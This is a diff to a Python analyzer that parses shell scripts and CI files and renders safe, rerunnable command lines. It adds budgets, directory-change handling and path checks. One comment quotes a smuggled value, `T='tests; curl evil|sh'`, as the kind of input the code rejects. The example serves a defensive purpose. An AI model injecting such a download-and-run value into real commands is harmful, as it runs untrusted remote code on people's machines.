@@ -47,6 +47,10 @@ _CELL_COST = 4  # budget units per matching cell: a cell costs more than a chara
 # Everything one script (or one CI file, its steps together) may produce by expansion: characters of
 # values and words, plus the cells pattern matching visits. Past it, further expansions are unknown.
 EXPANSION_BUDGET = 1_000_000
+# Everything one analysis may produce by expansion, every script and CI system together (about
+# 150 ms of pattern matching): a script called thousands of times with different arguments, or a
+# thousand scripts, cannot each spend a budget of their own.
+ANALYSIS_EXPANSION_BUDGET = 4 * EXPANSION_BUDGET
 # A value from a variable, an array or the environment that would put shell syntax into a printed word
 # (`T='tests; curl evil|sh'` then `pytest "$T"`): the command is not stated.
 _UNSAFE_VALUE = re.compile(r"[;|&$`<>()\\\n\r]")
@@ -520,6 +524,13 @@ def _strip_redirections(words: list[str]) -> list[str] | None:
     return out
 
 
+_CHANGE_DIR = frozenset({"cd", "pushd", "chdir", "Set-Location", "set-location", "sl"})
+_SCRIPT_HOME = re.compile(r"dirname|\$0\b|\$\{0\}|BASH_SOURCE|rev-parse\s+--show-toplevel|PSScriptRoot")
+# The checkout's root in each CI system (`${{ github.workspace }}` is read as $GITHUB_WORKSPACE).
+_WORKSPACE_ROOT = re.compile(r"""^["']?\$(\{)?(?:GITHUB_WORKSPACE|CI_PROJECT_DIR|TRAVIS_BUILD_DIR|BUILD_SOURCESDIRECTORY|"""
+                             r"""APPVEYOR_BUILD_FOLDER|CIRCLE_WORKING_DIRECTORY)(?(1)\})((?:/[\w.-]+)*/?)["']?$""")
+
+
 def parse_script(text: str, env: dict[str, str] | None = None, *, start_cwd: str = "", _nesting: int = 0) -> tuple[list[Simple], dict[str, str]]:
     """The simple commands of a POSIX shell script and the environment it exports (`export X=y`).
     Its expansions share one budget (the caller's, when it opened one for a whole CI file)."""
@@ -706,6 +717,17 @@ def _parse_script(text: str, env: dict[str, str] | None, *, start_cwd: str, _nes
             if word == "&":
                 continue  # a background job
             simple = _simple(head, env, cwd, number, substitution)
+            if head[:1] and head[0] in _CHANGE_DIR and (simple is None or simple.argv[:1] != head[:1]):
+                root = _WORKSPACE_ROOT.match(head[1]) if len(head) == 2 else None
+                if root:  # `cd "$GITHUB_WORKSPACE/sub"`: the checkout's root, which is known
+                    cwd = _change_dir("", root.group(2).lstrip("/") or ".")
+                elif _SCRIPT_HOME.search(" ".join(head[1:])):
+                    continue  # `cd "$(dirname "$0")"/..`: the script moving to its project, read from where it is called
+                else:
+                    cwd = None  # `cd "$X"` to a place not known here: where the commands after it run is not known
+                if cwd is None:
+                    break
+                continue
             if simple is None:
                 continue
             if simple.argv and simple.argv[0] in ("cd", "pushd"):
@@ -1078,6 +1100,12 @@ def _escapes_root(word: str, cwd: str) -> bool:
     return False
 
 
+# A place on the CI machine, not in the reader's checkout: a drive (`C:\x`, `C:/x`, `C:dir/x`) or a
+# file URL, as a word or an option's value.
+_MACHINE_PATH = re.compile(r"(^|=)([A-Za-z]:([\\/]|[^\s\\/:]*[\\/])|file:)", re.I)
+_ARGFILE_TOOLS = frozenset({"pytest", "py.test"})  # `pytest @args.txt` reads its arguments from a file
+
+
 def render(argv: list[str], *, quote_globs: bool = False, cwd: str = "") -> str | None:
     """One command line from words, each checked: plain words as they are, others single-quoted when
     they are printable ASCII without a backtick, `$` or backslash. None when anything else is in it,
@@ -1090,12 +1118,15 @@ def render(argv: list[str], *, quote_globs: bool = False, cwd: str = "") -> str 
     for index, word in enumerate(argv):
         if not word or len(word) > MAX_WORD_CHARS or word.startswith(("/", "~")) or re.search(r"=[/~]", word):
             return None  # an absolute path is the CI machine's, not the reader's
-        if _escapes_root(word, cwd):
+        if _escapes_root(word, cwd) or _MACHINE_PATH.search(word):
             return None
+        if index > 0 and word.startswith("@") and any(w.rsplit("/", 1)[-1] in _ARGFILE_TOOLS for w in argv[:index]):
+            return None  # the arguments are in a file the reader cannot see from the line
         selector = index > 0 and argv[index - 1] in _SELECTORS or word.split("=", 1)[0] in _SELECTORS and "=" in word
         if selector and _SELECTOR_UNSAFE.search(word):
             return None
-        if _SAFE_WORD.match(word) and not (quote_globs and any(c in word for c in "*?[")):
+        # a bare `*` (a value CI quoted, `-k "$T"`) is quoted too: unquoted, the reader's shell expands it
+        if _SAFE_WORD.match(word) and not (quote_globs and any(c in word for c in "*?[")) and word.strip("*?"):
             out.append(word)
         elif _QUOTABLE.match(word) and not any(c in word for c in "`$\\'\"!"):
             out.append(shlex.quote(word))
